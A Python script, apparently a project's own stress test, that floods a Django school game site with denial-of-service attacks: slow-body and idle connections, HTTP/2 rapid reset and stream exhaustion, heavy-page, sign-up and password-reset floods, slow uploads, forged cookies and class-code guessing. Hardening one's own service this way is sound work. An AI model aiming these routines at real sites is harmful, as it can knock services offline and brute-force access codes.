"""Attacks of one client on the site, by kind: `python -m scripts.siege.attacks KIND PORT ADDRESS
SECONDS FACTS`. It runs in a separate process with the lowest priority, because a real attacker has
another machine. FACTS is the file with the attacker's knowledge (`world`). It prints the number of
each answer and the processor time, as JSON, and does without Django."""

import asyncio
import json
import logging
import os
import random
import re
import resource
import secrets
import ssl
import sys
from collections import Counter
from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass, field
from html import unescape
from itertools import count, cycle
from pathlib import Path
from typing import Any, Final
from urllib.parse import urlencode

from scripts.load.wire import CSRF, FORM, SECONDS, GaveUp, Wire, without_checks

CODE_LETTERS: Final = "BCDFGHJKMNPRSTVWXYZ3479"
FIELD: Final = re.compile(r'name="(seen|key)" value="([^"]*)"')
DRIP_SECONDS: Final = 7
"""Seconds between two bytes of a slow body, or of clients that read nothing."""
STREAMS: Final = 128
"""The limit of nginx for streams at once in a connection of HTTP/2."""
HTTP2_STATUS: Final = {8: "200", 9: "204", 10: "206", 11: "304", 12: "400", 13: "404", 14: "500"}
"""The statuses in HPACK's table, by index."""
SLOW_BODY: Final = {
    "content-type": FORM,
    "cookie": f"__Host-csrftoken={CSRF}",
    "x-csrftoken": CSRF,
    "referer": "https://localhost/",
}

Ask = tuple[str, str, str, Mapping[str, str]]
"""Method, path, body, headers."""


def get(path: str, **headers: str) -> Ask:
    return "GET", path, "", headers


def post(path: str, **fields: str) -> Ask:
    return "POST", path, urlencode(fields), {}


@dataclass(slots=True)
class Attacker:
    port: int
    address: str
    facts: dict[str, Any]
    answers: Counter[str] = field(default_factory=Counter)
    context: ssl.SSLContext = field(default_factory=without_checks)

    async def repeat(
        self,
        connections: int,
        make: Callable[[], Ask],
        cookies: Mapping[str, str] | None = None,
        patience: float = SECONDS,
        take: Callable[[str], None] = lambda text: None,
    ) -> None:
        """Send requests on this many connections, each again as soon as it is answered, or after
        `patience` seconds without an answer. `take` reads the answer."""

        async def repeat_one() -> None:
            while True:
                own = {**(cookies or {}), "__Host-csrftoken": CSRF}
                wire = Wire(self.port, self.address, self.context, own)
                try:
                    while True:
                        await wire.open()
                        async with asyncio.timeout(patience):
                            answer = await wire.ask(*make())
                        self.answers[str(answer.status)] += 1
                        take(answer.text)
                except TimeoutError:
                    self.answers["broken off"] += 1
                except (GaveUp, OSError):
                    self.answers["no answer"] += 1
                    await asyncio.sleep(0.1)
                finally:
                    wire.close()

        await asyncio.gather(*(repeat_one() for _ in range(connections)))

    async def hold(
        self,
        connections: int,
        begin: bytes,
        drip: bytes = b"",
        tls: bool = True,
        streams: int = 0,
    ) -> None:
        """Keep this many connections open. On each send `begin`, then `drip` now and then, until
        the site answers or closes it; then open another. With HTTP/2, each has `streams`
        streams."""
        context = without_checks() if tls else None
        if context and streams:
            context.set_alpn_protocols(["h2"])

        async def hold_one(number: int) -> None:
            await asyncio.sleep(number / 1000)  # The kernel's queue is short.
            while True:
                try:
                    async with asyncio.timeout(SECONDS):
                        reader, writer = await Wire(self.port, self.address, context).open()
                    self.answers["opened"] += 1
                    writer.write(begin)
                    read = self._count_answers(reader, streams) if streams else self._status(reader)
                    answered = asyncio.create_task(read)
                    while not (await asyncio.wait([answered], timeout=DRIP_SECONDS))[0]:
                        writer.write(drip)
                    writer.close()
                    answered.result()
                except (OSError, EOFError, TimeoutError):
                    self.answers["closed"] += 1
                await asyncio.sleep(1)

        await asyncio.gather(*(hold_one(number) for number in range(connections)))

    async def reset_streams(self, connections: int, path: str) -> None:
        """Send a request over HTTP/2 and cancel it at once, again and again."""
        context = without_checks()
        context.set_alpn_protocols(["h2"])

        async def reset_on_one() -> None:
            while True:
                try:
                    _, writer = await Wire(self.port, self.address, context).open()
                    writer.write(PREFACE)
                    for stream in count(1, 2):
                        writer.write(head(stream, "GET", path, ends=True))
                        writer.write(frame(3, 0, stream, bytes(4)))
                        self.answers["taken back"] += 1
                        await writer.drain()
                        await asyncio.sleep(0)
                except OSError:
                    self.answers["closed"] += 1
                    await asyncio.sleep(0.1)

        await asyncio.gather(*(reset_on_one() for _ in range(connections)))

    async def _status(self, reader: asyncio.StreamReader) -> None:
        """Count the status of the only answer."""
        line = (await reader.readline()).split()
        self.answers[line[1].decode() if len(line) > 1 else "closed"] += 1

    async def _count_answers(self, reader: asyncio.StreamReader, streams: int) -> None:
        """Count the answers until this many streams are over."""
        while streams:
            size = await reader.readexactly(9)
            payload = await reader.readexactly(int.from_bytes(size[:3], "big"))
            if size[3] == 1:
                self.answers[_http2_status(payload)] += 1
            elif size[3] == 3:
                self.answers["reset by the site"] += 1
            streams -= size[3] == 3 or (size[3] < 2 and size[4] & 1)


# The part of HTTP/2 that the attacks need: frames without padding, headers without a table.


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return (
        len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
    )


PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)


def head(stream: int, method: str, path: str, *, ends: bool, **headers: str) -> bytes:
    """The beginning of a request, or with `ends` the whole request."""
    first = {":method": method, ":scheme": "https", ":authority": "localhost", ":path": path}
    block = b""
    for name, value in {**first, **headers}.items():
        block += b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
    return frame(1, 4 | ends, stream, block)


def _http2_status(block: bytes) -> str:
    """The status, which nginx sends first: an index of HPACK's table, or three digits. The size of
    the table may come before it."""
    while block[0] & 0xE0 == 0x20:
        block = block[1:]
    return HTTP2_STATUS.get(block[0] & 0x7F, "?") if block[0] & 0x80 else block[2:5].decode()


# The kinds.


async def slow(a: Attacker) -> None:
    """Request bodies of which a byte arrives every few seconds, some long, some as short as a
    form."""
    lines = "".join(f"{name}: {value}\r\n" for name, value in SLOW_BODY.items())
    begin = "POST /i18n/setlang/ HTTP/1.1\r\nhost: localhost\r\n{}content-length: {}\r\n\r\na="
    long, short = (begin.format(lines, length).encode() for length in (60_000, 7_000))
    await asyncio.gather(a.hold(200, long, b"x"), a.hold(200, short, b"x"))


async def idle(a: Attacker) -> None:
    """Handshakes that are only begun, and connections without a request."""
    await asyncio.gather(a.hold(7_000, b"\x16", tls=False), a.hold(1_000, b""))


async def streams(a: Attacker) -> None:
    """HTTP/2: as many slow bodies as three connections allow, and requests that are cancelled."""
    numbers = range(1, 2 * STREAMS, 2)
    more = {**SLOW_BODY, "content-length": "7000"}
    begin = [head(n, "POST", "/i18n/setlang/", ends=False, **more) for n in numbers]
    drip = b"".join(frame(0, 0, number, b"x") for number in numbers)
    slow_ones = a.hold(3, PREFACE + b"".join(begin), drip, streams=STREAMS)
    await asyncio.gather(slow_ones, a.reset_streams(2, f"/play/{a.facts['code']}/"))


async def pages(a: Attacker) -> None:
    """The slowest pages of a teacher, for the largest possible class."""
    paths = cycle(a.facts["pages"])
    await a.repeat(16, lambda: get(next(paths)), a.facts["teacher"])


async def schools(a: Attacker) -> None:
    """The slowest pages of the admin of a school."""
    paths = cycle(a.facts["schools"])
    await a.repeat(16, lambda: get(next(paths)), a.facts["teacher"])


async def names(a: Attacker) -> None:
    """The names of the largest possible class, at the door."""
    await a.repeat(150, lambda: get(f"/play/{a.facts['code']}/"))


async def resets(a: Attacker) -> None:
    """Requests for new passwords for addresses that do not exist."""
    path = "/accounts/password/reset/"
    await a.repeat(40, lambda: post(path, email=f"{secrets.token_hex(8)}@example.org"))


async def sign_ups(a: Attacker) -> None:
    def make() -> Ask:
        email = f"{secrets.token_hex(8)}@example.org"
        return post("/accounts/signup/", email=email, password1=secrets.token_hex(8))

    await a.repeat(40, make)


async def uploads(a: Attacker) -> None:
    """Uploads of workbooks that take long to read, one after another, each aborted after a second.
    Several at once would be refused unread."""
    part = 'Content-Disposition: form-data; name="file"; filename="names.xlsx"'
    body = f"--mark\r\n{part}\r\n\r\n{a.facts['workbook']}\r\n--mark--\r\n"
    headers = {"Content-Type": "multipart/form-data; boundary=mark"}
    ask = ("POST", a.facts["upload"], body, headers)
    await a.repeat(1, lambda: ask, a.facts["teacher"], patience=1.2)


async def exports(a: Attacker) -> None:
    """Files that the site makes while the teacher waits."""
    paths = cycle(a.facts["exports"])
    await a.repeat(16, lambda: get(next(paths)), a.facts["teacher"])


async def moves(a: Attacker) -> None:
    """Refused moves of a child, each from the page of the one before."""
    fields = {"seen": "0", "key": ""}

    def take(text: str) -> None:
        fields.update((name, unescape(value)) for name, value in FIELD.findall(text))

    def make() -> Ask:
        body = urlencode([*fields.items(), ("move", "lay"), ("card", "1"), ("card", "2")])
        return "POST", a.facts["act"], body, {"HX-Request": "true"}

    await asyncio.gather(
        a.repeat(1, lambda: get(a.facts["game"]), a.facts["child"], take=take),
        a.repeat(29, make, a.facts["child"], take=take),
    )


async def cookies(a: Attacker) -> None:
    """Sessions that look real, and rubbish."""

    def make() -> Ask:
        rubbish = random.randbytes(random.randrange(200)).hex()
        cookie = random.choice(
            (
                f"__Host-child={secrets.token_urlsafe(32)}",
                f"__Host-sessionid={secrets.token_hex(16)}",
                f"__Host-device={secrets.token_urlsafe(32)}; __Host-child={secrets.token_hex(20)}",
                f"__Host-child={rubbish}; __Host-sessionid={rubbish}; x{rubbish}=\x7f;=;;",
            )
        )
        return get(random.choice((a.facts["game"], "/me/", "/classes/", "/")), Cookie=cookie)

    await a.repeat(60, make)


async def codes(a: Attacker) -> None:
    """Random class codes, and names for them."""

    def make() -> Ask:
        code = "".join(random.choices(CODE_LETTERS, k=8))
        if random.random() < 0.3:
            return post(f"/play/{code}/name/", name="Nobody")
        return post("/play/", code=code)

    await a.repeat(200, make)


# Codes come last, because they count for a day and at every address.
KINDS: Final[Mapping[str, Callable[[Attacker], Awaitable[None]]]] = {
    kind.__name__.replace("_", "-"): kind
    for kind in (slow, idle, streams, pages, schools, names, resets, sign_ups, uploads, exports,
                 moves, cookies, codes)
}  # fmt: skip
MORNING: Final = "morning"
"""No attack: a school signs in."""


def main() -> None:
    kind, port, address, seconds, facts = sys.argv[1:]
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    # Otherwise it warns about each byte that is written after the site has closed the connection.
    logging.getLogger("asyncio").setLevel(logging.ERROR)
    attacker = Attacker(int(port), address, json.loads(Path(facts).read_text()))

    async def attack() -> None:
        attacking = asyncio.ensure_future(KINDS[kind](attacker))
        if (await asyncio.wait([attacking], timeout=float(seconds)))[0]:
            attacking.result()
        usage = resource.getrusage(resource.RUSAGE_SELF)
        result = {"answers": attacker.answers, "cpu": usage.ru_utime + usage.ru_stime}
        print(json.dumps(result), flush=True)
        os._exit(0)  # The kernel is quicker to close thousands of connections.

    asyncio.run(attack())


if __name__ == "__main__":
    main()
